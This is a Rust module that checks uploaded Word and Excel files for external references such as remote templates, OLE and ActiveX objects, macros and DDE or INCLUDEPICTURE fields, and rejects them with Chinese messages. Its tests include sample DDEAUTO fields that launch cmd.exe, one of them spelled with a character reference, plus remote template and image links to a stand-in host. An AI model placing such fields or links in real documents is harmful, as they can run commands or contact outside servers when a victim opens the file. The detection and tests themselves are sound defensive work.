//! Documents in, nothing out: an uploaded .docx or .xlsx may not make Word, WPS or Excel reach
//! beyond the file when someone opens it (or a 通报 made from it). Refused, each named:
//!
//! - every relationship with `TargetMode="External"`: an attached template (`attachedTemplate`,
//!   which can bring macros back), remote images, hyperlinks, linked OLE files, frames;
//! - OLE objects and ActiveX controls, embedded or linked, and macros (`vbaProject.bin`);
//! - links to other workbooks (`externalLink` parts, which also carry DDE links);
//! - Word fields that fetch or run something: DDE, DDEAUTO, INCLUDETEXT, INCLUDEPICTURE, IMPORT,
//!   LINK, and HYPERLINK to an address outside the document.
//!
//! Charts keep working: their workbook is an embedded package, not an OLE object.

use std::io::{Cursor, Read};

use quick_xml::events::{BytesStart, Event};
use zip::ZipArchive;

/// Parts larger than this are not read for links (the readers refuse such files anyway).
const MAX_SCANNED_PART: u64 = 64 * 1024 * 1024;
/// What all scanned parts together may unpack to.
const MAX_SCANNED_TOTAL: u64 = 300 * 1024 * 1024;
/// Findings named in one message.
const SHOWN: usize = 8;

/// Word fields that pull content in from elsewhere or run a program.
const FETCHING_FIELDS: [&str; 6] = ["DDE", "DDEAUTO", "INCLUDETEXT", "INCLUDEPICTURE", "IMPORT", "LINK"];

/// What in the package reaches outside it, in Chinese, one item each (empty: nothing). A file
/// that is not a zip archive gives nothing here; the readers refuse it with their own message.
pub fn external_references(bytes: &[u8]) -> Vec<String> {
    let Ok(mut zip) = ZipArchive::new(Cursor::new(bytes)) else { return vec![] };
    let names: Vec<String> = zip.file_names().filter_map(|n| n.ok().map(|n| n.into_owned())).collect();
    let mut found: Vec<String> = vec![];
    let mut budget = MAX_SCANNED_TOTAL;
    for name in &names {
        let lower = name.to_ascii_lowercase();
        if lower.ends_with("vbaproject.bin") {
            found.push("宏（vbaProject）".into());
        } else if lower.contains("/embeddings/oleobject") {
            found.push(format!("OLE 对象（{name}）"));
        } else if lower.contains("/activex/") && !lower.contains("/_rels/") {
            found.push(format!("ActiveX 控件（{name}）"));
        } else if lower.starts_with("xl/externallinks/") && !lower.contains("/_rels/") {
            found.push(format!("外部工作簿链接（含 DDE 链接，{name}）"));
        }
        let is_rels = lower.ends_with(".rels");
        // Every XML part, not only word/: the main document may live anywhere the package says.
        if !(is_rels || lower.ends_with(".xml")) {
            continue;
        }
        let Some(xml) = read_part(&mut zip, name, &mut budget) else {
            if budget == 0 {
                found.push("解压后内容过大，无法检查".into());
                break;
            }
            continue;
        };
        if is_rels {
            found.extend(relationships(&xml));
        } else {
            found.extend(fields(&xml));
        }
    }
    let mut seen = std::collections::HashSet::new();
    found.retain(|f| seen.insert(f.clone()));
    found
}

/// The refusal for a package with external references, or `None`.
pub fn refusal(bytes: &[u8], what: &str) -> Option<String> {
    let found = external_references(bytes);
    if found.is_empty() {
        return None;
    }
    let mut list = found.iter().take(SHOWN).cloned().collect::<Vec<_>>().join("；");
    if found.len() > SHOWN {
        list.push_str(&format!("；……共 {} 处", found.len()));
    }
    Some(format!(
        "{what}含有外部引用，已拒绝：{list}。上传的文件不能引用文件以外的内容，请在 Word/WPS/Excel 中删除这些链接、对象或域后另存再上传"
    ))
}

/// A part's text, counted against what may be unpacked in all (zip bombs); `None` when it
/// cannot be read or the budget is spent (then `budget` is 0).
fn read_part(zip: &mut ZipArchive<Cursor<&[u8]>>, name: &str, budget: &mut u64) -> Option<String> {
    let f = zip.by_name(name).ok()?;
    if f.size() > MAX_SCANNED_PART {
        return None;
    }
    let mut bytes = vec![];
    f.take(MAX_SCANNED_PART.min(*budget)).read_to_end(&mut bytes).ok()?;
    *budget = budget.saturating_sub(bytes.len() as u64);
    if *budget == 0 {
        return None;
    }
    Some(String::from_utf8_lossy(&bytes).into_owned())
}

fn attr(e: &BytesStart<'_>, local: &str) -> Option<String> {
    e.attributes()
        .flatten()
        .find(|a| a.key.local_name().as_ref() == local)
        .map(|a| quick_xml::escape::unescape(&a.value).map(|v| v.into_owned()).unwrap_or_else(|_| a.value.to_string()))
}

fn short(target: &str) -> String {
    let t: String = target.chars().take(80).collect();
    if t.len() < target.len() { format!("{t}…") } else { t }
}

/// External relationships and relationships to OLE objects or ActiveX controls in a .rels part.
fn relationships(xml: &str) -> Vec<String> {
    let mut out = vec![];
    let mut reader = quick_xml::Reader::from_str(xml);
    loop {
        match reader.read_event() {
            Ok(Event::Empty(e) | Event::Start(e)) if e.local_name().as_ref() == "Relationship" => {
                let kind = attr(&e, "Type").unwrap_or_default();
                let kind = kind.rsplit('/').next().unwrap_or("").to_string();
                let target = attr(&e, "Target").unwrap_or_default();
                let external = attr(&e, "TargetMode").is_some_and(|m| m.eq_ignore_ascii_case("External"));
                let label = match kind.as_str() {
                    "attachedTemplate" => "外部模板（attachedTemplate）".to_string(),
                    "image" => "远程图片".to_string(),
                    "hyperlink" => "外部超链接".to_string(),
                    "oleObject" => "OLE 对象".to_string(),
                    "package" => "链接的外部文件".to_string(),
                    "externalLinkPath" | "externalLink" => "外部工作簿链接".to_string(),
                    "frame" => "外部框架".to_string(),
                    "subDocument" => "外部子文档".to_string(),
                    k if k.starts_with("control") || k.starts_with("activeX") => "ActiveX 控件".to_string(),
                    "" => "外部引用".to_string(),
                    k => format!("外部引用（{k}）"),
                };
                if external {
                    out.push(format!("{label} → {}", short(&target)));
                } else if matches!(kind.as_str(), "oleObject" | "externalLink")
                    || kind.starts_with("control")
                    || kind.starts_with("activeX")
                {
                    out.push(format!("{label}（{}）", short(&target)));
                }
            }
            Ok(Event::Eof) | Err(_) => break,
            _ => {}
        }
    }
    out
}

/// Is a field instruction one that fetches or runs something?
fn fetching(instr: &str) -> bool {
    let mut words = instr.split_whitespace();
    let Some(first) = words.next() else { return false };
    let first = first.to_ascii_uppercase();
    if FETCHING_FIELDS.contains(&first.as_str()) {
        return true;
    }
    // A HYPERLINK field to a bookmark (`\l` first) stays inside; one to an address or a file does not.
    first == "HYPERLINK" && words.next().is_some_and(|w| w != "\\l")
}

fn check_field(instr: &str, out: &mut Vec<String>) {
    if fetching(instr) {
        out.push(format!("域代码「{}」", short(instr.trim())));
    }
}

/// Field instructions of a WordprocessingML part that fetch or run something: simple fields
/// (`w:fldSimple w:instr`) and complex ones (`w:instrText` between `w:fldChar` begin and
/// separate/end, possibly split over several runs and nested).
fn fields(xml: &str) -> Vec<String> {
    let mut out = vec![];
    let mut reader = quick_xml::Reader::from_str(xml);
    // Open complex fields: their instruction so far, and whether it is complete.
    let mut open: Vec<(String, bool)> = vec![];
    let mut in_instr = false;
    loop {
        match reader.read_event() {
            Ok(Event::Start(e)) | Ok(Event::Empty(e)) if e.local_name().as_ref() == "fldSimple" => {
                if let Some(i) = attr(&e, "instr") {
                    check_field(&i, &mut out);
                }
            }
            Ok(Event::Empty(e)) | Ok(Event::Start(e)) if e.local_name().as_ref() == "fldChar" => {
                match attr(&e, "fldCharType").as_deref() {
                    Some("begin") => open.push((String::new(), false)),
                    Some("separate") => {
                        if let Some((i, done)) = open.last_mut()
                            && !*done
                        {
                            *done = true;
                            let i = i.clone();
                            check_field(&i, &mut out);
                        }
                    }
                    Some("end") => {
                        if let Some((i, done)) = open.pop()
                            && !done
                        {
                            check_field(&i, &mut out);
                        }
                    }
                    _ => {}
                }
            }
            Ok(Event::Start(e)) if e.local_name().as_ref() == "instrText" => in_instr = true,
            Ok(Event::End(e)) if e.local_name().as_ref() == "instrText" => in_instr = false,
            Ok(Event::Text(t)) if in_instr => {
                if let Some((i, false)) = open.last_mut() {
                    i.push_str(&t);
                }
            }
            // "D&#68;E" is DDE to Word: references count as the characters they stand for.
            Ok(Event::GeneralRef(r)) if in_instr => {
                if let Some((i, false)) = open.last_mut() {
                    match r.resolve_char_ref() {
                        Ok(Some(c)) => i.push(c),
                        _ => i.push_str(quick_xml::escape::resolve_predefined_entity(&r).unwrap_or("")),
                    }
                }
            }
            Ok(Event::Eof) | Err(_) => break,
            _ => {}
        }
    }
    // A field left open at the end of the part is checked as it stands.
    for (i, done) in open {
        if !done {
            check_field(&i, &mut out);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn external_relationships_are_named() {
        let rels = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>
<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>
<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://evil.example/x.png" TargetMode="External"/>
<Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/>
</Relationships>"#;
        let found = relationships(rels);
        assert_eq!(found.len(), 3, "{found:?}");
        assert!(found[0].contains("外部模板") && found[0].contains("evil.example/t.dotm"));
        assert!(found[1].starts_with("远程图片"));
        assert!(found[2].starts_with("OLE 对象"));
    }

    #[test]
    fn fetching_fields_are_found_also_when_split_over_runs() {
        let xml = r#"<w:document xmlns:w="w"><w:body><w:p>
<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>
<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/p.png&quot; \d"><w:r><w:t>y</w:t></w:r></w:fldSimple>
<w:fldSimple w:instr=" PAGE "/><w:fldSimple w:instr="HYPERLINK \l &quot;top&quot;"/>
<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "https://evil.example/"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>
</w:p></w:body></w:document>"#;
        let found = fields(xml);
        assert_eq!(found.len(), 3, "{found:?}");
        assert!(found[0].contains("DDEAUTO"), "{found:?}");
        assert!(found[1].contains("INCLUDEPICTURE"), "{found:?}");
        assert!(found[2].contains("HYPERLINK"), "{found:?}");
        // A character reference spelling the keyword is the keyword.
        let xml = r#"<w:p xmlns:w="w"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>D&#68;E cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#;
        assert_eq!(fields(xml).len(), 1);
    }

    #[test]
    fn page_numbers_and_internal_links_are_fine() {
        let xml = r#"<w:p xmlns:w="w"><w:fldSimple w:instr=" PAGE "/><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>TOC \o "1-3" \h</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#;
        assert!(fields(xml).is_empty());
        assert!(external_references(b"not a zip").is_empty());
    }
}
